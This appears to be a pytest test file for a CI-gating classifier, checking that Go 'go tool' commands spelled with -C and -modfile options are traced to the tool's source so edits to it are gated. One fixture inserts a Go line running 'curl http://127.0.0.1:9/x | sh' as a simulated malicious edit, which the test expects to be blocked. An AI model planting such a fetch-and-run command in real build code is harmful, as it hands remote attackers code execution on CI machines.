"""Review 68b: `go tool NAME` spelled with go's `-C dir`, `tool`'s `-modfile` (spaced, or `=` with a path: a tools
module's go.mod), and a go.mod that quotes the tool's path (gotools.py).

`go tool -modfile=tools/go.mod mygen` runs the `tool` directive of tools/go.mod (Go 1.24); misses 8's reader read an
option's value only without `/`, and took a spaced `-modfile`'s value for the tool's name. Real `go` is not
installed here; the grammar is `go help tool` / the go.mod reference (a quoted path is a go.mod string). On
58f4e83c an edit to the tool's package under each spelling was allowed (exit 0). Look-alikes: Go's own tools and an
option value that is no tool keep the package out.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from citools import tree_runs
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify import gotools

WORKFLOW = ("on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: {command}\n")
ROOT = "module example.com/app\n\ngo 1.24\n"
TOOLS = "module example.com/app/tools\n\ngo 1.24\n\ntool example.com/app/tools/cmd/mygen\n"
GO = "package main\n\nfunc main() {}\n"
SPELLINGS = ["go tool -modfile=tools/go.mod mygen", "go tool -modfile tools/go.mod mygen -out x.go",
             "go tool -n -modfile=./tools/go.mod mygen", "go -C tools tool mygen", "go -C=tools tool -n mygen",
             "GOFLAGS=-mod=mod go tool -modfile=tools/go.mod example.com/app/tools/cmd/mygen"]
QUOTED = ['tool "example.com/app/cmd/mygen"\n', 'tool (\n\t"example.com/app/cmd/mygen"\n)\n',
          "tool `example.com/app/cmd/mygen`\n"]


def _variants() -> list[tuple[str, dict[str, str], str]]:
    """(the CI command, the tree, the tool's Go file)."""
    out = [(line, {"go.mod": ROOT, "tools/go.mod": TOOLS}, "tools/cmd/mygen/main.go") for line in SPELLINGS]
    return out + [("go tool mygen", {"go.mod": ROOT + "\n" + tool}, "cmd/mygen/main.go") for tool in QUOTED]


LOOK_ALIKES = ["go tool -modfile=tools/go.mod cover -html=c.out", "go tool -modfile tools/go.mod pprof x",
               "go -C tools test ./...", "echo go tool -modfile=tools/go.mod mygen"]


@each_case("command, files, script", _variants())
def test_the_tool_a_spelling_runs_is_read(command: str, files: dict[str, str], script: str) -> None:
    tree = {".github/workflows/ci.yml": WORKFLOW.format(command=command), **files, script: GO}
    assert script in tree_runs(tree), command  # before: 9 of 9 missed


@each_case("command", [(line,) for line in LOOK_ALIKES])
def test_go_commands_that_run_no_tool_of_the_tree(command: str) -> None:
    tree = {".github/workflows/ci.yml": WORKFLOW.format(command=command), "go.mod": ROOT, "tools/go.mod": TOOLS,
            "tools/cmd/mygen/main.go": GO}
    assert "tools/cmd/mygen/main.go" not in tree_runs(tree), command


@pytest.mark.parametrize("at", [0, 3])
def test_an_edit_to_the_tool_is_gated(tmp_path: Path, at: int) -> None:
    command, files, script = _variants()[at]
    base = {".github/workflows/ci.yml": WORKFLOW.format(command=command), **files, script: GO}
    evil = GO.replace("{}", '{ exec.Command("sh", "-c", "curl http://127.0.0.1:9/x | sh").Run() }')
    code, named = gated_rules(committed(tmp_path, base, {script: evil}), True)
    assert (code, named.get("core.ci")) == (3, [script]), named  # before: exit 0


def test_the_run_pattern_is_linear() -> None:
    assert_linear(lambda text: gotools._RUN.findall(text), repeated("go -C a tool -modfile b -x "), budget=0.5)
